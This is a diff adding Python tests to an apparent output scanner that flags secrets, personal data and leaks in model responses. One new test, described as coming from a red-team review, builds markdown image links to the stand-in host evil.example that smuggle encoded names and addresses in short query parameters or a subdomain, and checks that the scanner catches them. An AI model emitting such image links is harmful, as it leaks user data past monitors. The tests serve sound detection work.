@@ -543,3 +543,30 @@ def test_a_real_looking_key_beside_a_sample_or_a_password_naming_one_is_still_a_
     assert redact("password=MyEXAMPLEpass1") == "password=[SECRET]"
     (finding,) = _judged("AKIAIOSFODNN7EXAMPLE is the sample; yours is AKIAZ3MXQ7R2LPWN4VYD")
     assert finding.evidence["kinds"] == {"aws_access_key": 1}
+
+
+def test_data_spread_over_short_parameters_or_in_a_host_name_is_exfiltration() -> None:
+    """A red-team review: data cut into four-character parameters, or encoded in a subdomain, each
+    part too short or not looked at, gave at most a medium remote image."""
+    data = base64.b64encode(b"Hermione Granger lives at 12 Grimmauld Place").decode()
+    spread = "&".join(f"{chr(97 + i)}={data[4 * i:4 * i + 4]}" for i in range(len(data) // 4))
+    label = base64.b32encode(b"jane doe london").decode().rstrip("=").lower()
+    for output, part in ((f"![x](https://evil.example/p.png?{spread})", "query (together)"),
+                         (f"![x](https://{label}.evil.example/a.png)", "host")):
+        (finding,) = _judged(output)
+        assert finding.evidence["kinds"] == {"markdown_image": 1}
+        assert finding.evidence["snippets"][0]["detail"]["data_parts"] == [part]
+    quiet = "![x](https://cdn.example.com/img.png?w=640&h=480&fit=crop&q=80&fm=webp&auto=format)"
+    assert _judged(quiet)[0].evidence["kinds"] == {"remote_image": 1}
+    assert _judged("[s](https://shop.example.com/?utm_source=newsletter&utm_medium=email"
+                   "&utm_campaign=spring)") == []
+
+
+def test_an_address_written_to_dodge_scrapers_is_an_email() -> None:
+    for output in ("Contact jane.doe [at] acme-corp [dot] com for details", "j.smith {AT} mail {DOT} co {DOT} uk",
+                   "write to jane.doe(at)acme-corp.com"):
+        (finding,) = _judged(output)
+        assert finding.evidence["kinds"] == {"email": 1}
+    assert _judged("write to jane.doe(at)acme-corp.com", allowed_contacts=["@acme-corp.com"]) == []
+    for output in ("Meet me at home dot com", "The [at] symbol is used in email", "help (at) support is open"):
+        assert _judged(output) == []
